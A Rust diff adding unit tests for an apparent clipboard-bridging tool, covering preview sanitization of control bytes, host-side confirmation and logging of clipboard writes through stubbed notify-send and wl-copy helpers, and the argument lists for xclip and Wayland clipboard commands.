+        assert!(long.starts_with("1 line, 500 bytes (only the start is shown)"));
+        assert_eq!(
+            preview("text/plain", b"a\x1b[2Jb"),
+            "1 line, 6 bytes\n\na\u{fffd}[2Jb"
+        );
+        assert_eq!(preview("image/png", b"PNG"), "image/png image, 3 bytes");
+    }
+
+    #[test]
+    fn test_write_confirmation() {
+        let dir = make_temp_dir();
+        let log = test_log(&dir);
+        let copied = dir.join("copied");
+        let backend = Backend::Wayland(dir.join("wl-paste"));
+        fake_tool(
+            &dir,
+            "wl-copy",
+            &format!("  \"--type image/png\") cat > '{}' ;;", copied.display()),
+        );
+        let answer = dir.join("answer");
+        let notifier = fake_tool(
+            &dir,
+            "notify-send",
+            &format!("  *--wait*) cat '{}' ;;", answer.display()),
+        );
+        let mut settings = WriteSettings {
+            config: Config {
+                write: true,
+                confirm: true,
+                ..Config::default()
+            },
+            notifier: None,
+            confirming: Mutex::new(()),
+        };
+
+        let resp = handle_write(
+            write_request("image/png", b"PNG"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert!(resp.stderr.contains("notify-send is not installed"));
+
+        settings.notifier = Some(notifier);
+        fs::write(&answer, "deny\n").unwrap();
+        let resp = handle_write(
+            write_request("image/png", b"PNG"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert!(resp.stderr.contains("declined on the host"));
+        assert!(!copied.exists());
+
+        fs::write(&answer, "allow\n").unwrap();
+        let resp = handle_write(
+            write_request("image/png", b"PNG"),
+            Some(&backend),
+            &settings,
+            &log,
+        );
+        assert_eq!(resp.exit_code, 0, "{}", resp.stderr);
+        assert_eq!(fs::read(&copied).unwrap(), b"PNG");
+
+        // A second write is refused while the first waits for an answer
+        let (asked, release) = (dir.join("asked"), dir.join("release"));
+        settings.notifier = Some(fake_tool(
+            &dir,
+            "notify-send-slow",
+            &format!(
+                "  *--wait*) touch '{}'; while [ ! -e '{}' ]; do sleep 0.05; done; echo allow ;;",
+                asked.display(),
+                release.display()
+            ),
+        ));
+        thread::scope(|scope| {
+            let first = scope.spawn(|| {
+                handle_write(
+                    write_request("image/png", b"PNG2"),
+                    Some(&backend),
+                    &settings,
+                    &log,
+                )
+            });
+            let started = Instant::now();
+            while !asked.exists() {
+                assert!(started.elapsed() < Duration::from_secs(5), "never asked");
+                thread::sleep(Duration::from_millis(10));
+            }
+            let resp = handle_write(
+                write_request("image/png", b"PNG3"),
+                Some(&backend),
+                &settings,
+                &log,
+            );
+            assert!(
+                resp.stderr.contains("awaiting confirmation"),
+                "{}",
+                resp.stderr
+            );
+            fs::write(&release, "").unwrap();
+            let resp = first.join().unwrap();
+            assert_eq!(resp.exit_code, 0, "{}", resp.stderr);
+        });
+        assert_eq!(fs::read(&copied).unwrap(), b"PNG2");
+        let logged = fs::read_to_string(dir.join("test.log")).unwrap();
+        assert!(
+            logged.contains("DENIED  write image/png (another write is awaiting confirmation)")
+        );
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_backend_commands() {
+        let args = |command: Command| -> Vec<String> {
+            command
+                .get_args()
+                .map(|arg| arg.to_string_lossy().into_owned())
+                .collect()
+        };
+        let x11 = Backend::X11(PathBuf::from("xclip"));
+        assert_eq!(
+            args(x11.read_command("text/plain")),
+            ["-selection", "clipboard", "-o"]
+        );
+        assert_eq!(
+            args(x11.read_command("image/png")),
+            ["-selection", "clipboard", "-t", "image/png", "-o"]
+        );
+        let wayland = Backend::Wayland(PathBuf::from("wl-paste"));
+        assert_eq!(
+            args(wayland.read_command("image/png")),
+            ["--no-newline", "--type", "image/png"]
+        );
+        let copy = Backend::Wayland(PathBuf::from("/usr/bin/wl-paste")).write_command("text/plain");
+        assert_eq!(copy.get_program(), "/usr/bin/wl-copy");
+        assert_eq!(args(copy), ["--type", "text/plain"]);
+        assert_eq!(
+            args(x11.write_command("text/plain")),
+            ["-selection", "clipboard", "-t", "text/plain", "-i"]
+        );
+        assert_eq!(
+            supported_types("TARGETS\nSTRING\nimage/jpg\nimage/png\ntext/html\n"),
+            ["text/plain", "image/png", "image/jpeg"]
+        );
+    }
 }